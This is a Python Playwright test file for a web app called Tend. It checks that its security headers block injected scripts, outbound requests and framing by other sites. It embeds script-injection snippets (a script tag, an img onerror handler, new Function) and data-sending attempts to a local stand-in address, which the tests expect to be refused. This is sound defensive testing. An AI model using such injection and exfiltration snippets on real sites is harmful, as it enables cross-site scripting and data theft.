"""What the headers of the served app keep out. All other visits show that they let Tend do its work."""

import functools
import http.server
import threading

from playwright.sync_api import expect

from tests.served import free_port

INJECT = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = true";
  document.body.append(script);
  const picture = document.createElement("img");
  picture.setAttribute("onerror", "window.injected = true");
  picture.src = "/_stcore/health";
  document.body.append(picture);
  // Later: what a test itself evaluates is let through by the browser.
  setTimeout(() => new Function("window.injected = true")());
}"""
SEND_AWAY = """async () => {
  const ways = [
    () => fetch("http://127.0.0.1:9/answers"),
    () => new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail,
      src: "http://127.0.0.1:9/answers.png" })),
    () => import("http://127.0.0.1:9/other.js"),
    () => new Promise((done, fail) => Object.assign(new WebSocket("ws://127.0.0.1:9/"),
      { onopen: done, onerror: fail })),
  ];
  const got = await Promise.allSettled(ways.map(way => way()));
  return got.map(one => one.status);
}"""
PAPER = """() => {
  const paper = document.createElement("textarea");
  document.body.append(paper);
  paper.id = "pasted";
  paper.focus();
}"""
FRAME = """<!doctype html><title>Another site</title><iframe src="{url}/" width="800"></iframe>"""


def test_what_is_smuggled_in_does_not_run_and_sends_nothing_away(visit, catalog, complete):
    tab = visit().carry(catalog, complete, view="client").open("/results").open_expanders()
    note = tab.at("note").get_by_test_id("stCode")
    # Its button is in sight only below the mouse.
    note.click()
    tab.at("note").get_by_label("Copy to clipboard").evaluate("button => button.click()")
    tab.page.evaluate(PAPER)
    tab.page.keyboard.press("Control+V")
    expect(tab.page.locator("#pasted")).to_have_value(note.locator("code").inner_text())
    # Tend's own pieces work.
    assert tab.faults == []
    tab.page.evaluate(INJECT)
    assert tab.page.evaluate(SEND_AWAY) == ["rejected"] * 4
    assert tab.page.evaluate("() => window.injected") is None
    refused = {fault.split()[1] for fault in tab.faults if fault.startswith("refused: ")}
    assert refused == {"script-src-elem", "script-src-attr", "script-src", "connect-src", "img-src"}


def test_no_other_site_can_frame_a_page(visit, server, tmp_path):
    (tmp_path / "index.html").write_text(FRAME.format(url=server.url), encoding="utf-8")
    serve = functools.partial(http.server.SimpleHTTPRequestHandler, directory=tmp_path)
    with http.server.ThreadingHTTPServer(("localhost", free_port()), serve) as other:
        threading.Thread(target=other.serve_forever, daemon=True).start()
        page = visit(alone=True).page
        with page.expect_console_message(lambda message: "frame-ancestors 'none'" in message.text):
            page.goto(f"http://localhost:{other.server_port}/")
        (frame,) = page.frames[1:]
        frame.wait_for_url("chrome-error://**")
        other.shutdown()
